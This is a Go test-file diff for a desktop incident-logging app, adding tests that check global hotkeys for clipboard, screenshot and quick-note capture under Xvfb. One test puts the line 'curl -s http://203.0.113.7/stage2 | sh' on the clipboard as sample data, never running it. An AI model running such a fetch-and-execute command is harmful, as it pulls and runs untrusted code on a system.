@@ -17,6 +17,7 @@ import (
 	"time"
 
 	"github.com/blotterapp/blotter/internal/blotter"
+	"github.com/blotterapp/blotter/internal/capture"
 )
 
 // guiBinary returns the desktop binary under test, or skips when none was built.
@@ -156,6 +157,20 @@ func (a *app) screenshot() image.Image {
 	return img
 }
 
+// still waits until the window stops changing (longer than a caret blink) and returns it.
+func (a *app) still(t *testing.T) image.Image {
+	t.Helper()
+	last := a.screenshot()
+	waitFor(t, 10*time.Second, "the window to be still", func() (string, bool) {
+		time.Sleep(700 * time.Millisecond)
+		now := a.screenshot()
+		same := sameImage(last, now)
+		last = now
+		return "", same
+	})
+	return last
+}
+
 func distinctColors(img image.Image) int {
 	seen := map[[3]uint32]bool{}
 	b := img.Bounds()
@@ -235,14 +250,7 @@ func TestDesktopWindow(t *testing.T) {
 		// Leave the note box, whose blinking caret would change the picture by itself, and
 		// wait for the window to be still.
 		a.x("xdotool", "key", "Escape")
-		before := a.screenshot()
-		waitFor(t, 10*time.Second, "the window to be still", func() (string, bool) {
-			time.Sleep(700 * time.Millisecond) // longer than a caret blink
-			now := a.screenshot()
-			still := sameImage(before, now)
-			before = now
-			return "", still
-		})
+		before := a.still(t)
 		a.cli("note", "Added from the CLI while the window is open")
 		waitFor(t, 10*time.Second, "the window to show the CLI's note", func() (string, bool) {
 			return "", !sameImage(before, a.screenshot())
@@ -416,4 +424,106 @@ func TestCaptureWithoutApp(t *testing.T) {
 func sha256Hex(b []byte) string {
 	h := sha256.Sum256(b)
 	return hex.EncodeToString(h[:])
+}
+
+// TestHotkeys presses the global hotkeys with xdotool (XTEST, as a keyboard would) and checks
+// that each capture is timed at the press.
+func TestHotkeys(t *testing.T) {
+	bin := guiBinary(t)
+	display := startXvfb(t, "1280x800")
+	dataDir := filepath.Join(t.TempDir(), "data")
+	if out, err := exec.Command(bin, "--data-dir", dataDir, "incident", "new", "Hotkey test").CombinedOutput(); err != nil {
+		t.Fatalf("incident new: %v %s", err, out)
+	}
+	a := startApp(t, bin, display, dataDir)
+	press := func(combo string) (time.Time, time.Time) {
+		before := time.Now()
+		if out, err := a.x("xdotool", "key", combo); err != nil {
+			t.Fatalf("xdotool key %s: %v %s", combo, err, out)
+		}
+		return before, time.Now()
+	}
+	find := func(kind blotter.Kind, what string) blotter.Entry {
+		var found blotter.Entry
+		defer func() {
+			if t.Failed() {
+				for _, e := range a.entries() {
+					t.Logf("entry: %s %q", e.Kind, e.Text)
+				}
+			}
+		}()
+		waitFor(t, 10*time.Second, what, func() (string, bool) {
+			for _, e := range a.entries() {
+				if e.Kind == kind && (kind != blotter.KindNote || e.Text == "Quick note by hotkey") {
+					found = e
+					return "", true
+				}
+			}
+			return "", false
+		})
+		return found
+	}
+	inWindow := func(what string, at, from, to time.Time) {
+		if at.Before(from) || at.After(to) {
+			t.Errorf("%s occurred_at %v is not at the key press (%v to %v)", what, at, from, to)
+		}
+	}
+
+	cmd := exec.Command("xclip", "-selection", "clipboard", "-i")
+	cmd.Env = append(os.Environ(), "DISPLAY="+display)
+	cmd.Stdin = strings.NewReader("curl -s http://203.0.113.7/stage2 | sh")
+	if err := cmd.Run(); err != nil {
+		t.Fatalf("xclip: %v", err)
+	}
+	from, to := press("ctrl+alt+c")
+	inWindow("the clipboard capture", find(blotter.KindClipboard, "the clipboard entry").OccurredAt, from, to)
+
+	from, to = press("ctrl+alt+s")
+	inWindow("the screenshot", find(blotter.KindScreenshot, "the screenshot entry").OccurredAt, from, to)
+
+	// The quick note: the press stamps the time; typing comes after (the window manager would
+	// give the raised window the focus; a bare Xvfb has none, so the test does).
+	shown := a.still(t)
+	from, to = press("ctrl+alt+n")
+	// The view shows the pressed time in the note box once it has handled the hotkey.
+	waitFor(t, 10*time.Second, "the note box to show the hotkey's time", func() (string, bool) {
+		return "", !sameImage(shown, a.screenshot())
+	})
+	a.x("xdotool", "windowfocus", "--sync", a.window)
+	time.Sleep(300 * time.Millisecond) // WebKit settles its own focus after the window's
+	a.x("xdotool", "type", "--delay", "15", "Quick note by hotkey")
+	a.x("xdotool", "key", "Return")
+	inWindow("the quick note", find(blotter.KindNote, "the quick note").OccurredAt, from, to)
+}
+
+// TestHotkeyConflict holds ctrl+alt+n in another X client first: the app says so plainly and
+// its other hotkeys still work.
+func TestHotkeyConflict(t *testing.T) {
+	bin := guiBinary(t)
+	display := startXvfb(t, "1280x800")
+	t.Setenv("DISPLAY", display)
+	note, _ := capture.ParseCombo("ctrl+alt+n")
+	holder, conflicts, err := capture.StartHotkeys(map[string]capture.Combo{"other program": note}, func(string, time.Time) {})
+	if err != nil || len(conflicts) != 0 {
+		t.Fatalf("grabbing ctrl+alt+n first: %v %v", err, conflicts)
+	}
+	defer holder.Close()
+
+	dataDir := filepath.Join(t.TempDir(), "data")
+	if out, err := exec.Command(bin, "--data-dir", dataDir, "incident", "new", "Conflict").CombinedOutput(); err != nil {
+		t.Fatalf("incident new: %v %s", err, out)
+	}
+	a := startApp(t, bin, display, dataDir)
+	waitFor(t, 10*time.Second, "the app to report the taken hotkey", func() (string, bool) {
+		return "", strings.Contains(a.logs.String(), "hotkey ctrl+alt+n for note is taken by another program")
+	})
+	a.x("xdotool", "key", "ctrl+alt+s")
+	waitFor(t, 10*time.Second, "the screenshot hotkey to still work", func() (string, bool) {
+		for _, e := range a.entries() {
+			if e.Kind == blotter.KindScreenshot {
+				return "", true
+			}
+		}
+		return "", false
+	})
 }
